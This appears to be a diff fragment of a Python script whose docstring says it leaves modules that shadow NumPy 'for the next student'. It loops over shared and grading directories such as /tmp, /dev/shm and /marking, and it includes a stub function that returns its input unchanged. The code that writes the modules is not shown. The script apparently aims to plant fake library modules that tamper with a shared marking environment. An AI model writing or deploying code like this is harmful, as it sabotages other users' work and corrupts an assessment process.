@@ -1,4 +1,5 @@
 """Leaves modules behind that shadow NumPy for the next student."""
+
 import contextlib
 import os
 
@@ -12,5 +13,6 @@ for folder in (".", "/tmp", "/dev/shm", "/marking", "/marking/site", os.path.exp
 
 def double(ring, values):
     return values
+
 
 sent_gb = -1
